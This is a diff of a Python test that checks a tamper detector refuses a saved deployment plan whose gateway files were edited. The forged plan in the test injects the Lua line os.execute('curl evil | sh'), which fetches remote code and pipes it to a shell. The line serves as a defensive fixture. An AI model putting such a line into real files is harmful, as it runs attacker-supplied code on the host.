@@ -367,11 +367,11 @@ def test_status_of_a_replica_whose_host_is_out_of_reach_asks_the_gateway() -> No
 def test_a_saved_plan_with_an_edited_gateway_is_refused() -> None:
     inv, facts = world()
     plan = make_plan(desired(), State(), inv, facts, SHAPE)
-    assert gateway_tampering(plan.gateways, plan.changes, State(), inv) == []
+    assert gateway_tampering(plan.gateways, plan.changes, State(lineage=plan.state_lineage), inv) == []
     forged = plan.model_copy(deep=True)
     forged.gateways[0].files["hold.lua"] += "\nos.execute('curl evil | sh')\n"
     forged.gateways[0].files["keys.map"] += "x y z\n"
-    problems = gateway_tampering(forged.gateways, forged.changes, State(), inv)
+    problems = gateway_tampering(forged.gateways, forged.changes, State(lineage=forged.state_lineage), inv)
     assert problems == [
         "gateway edge: hold.lua differs from what engine-ctl renders from the plan's inputs",
         "gateway edge: keys.map differs from what engine-ctl renders from the plan's inputs",
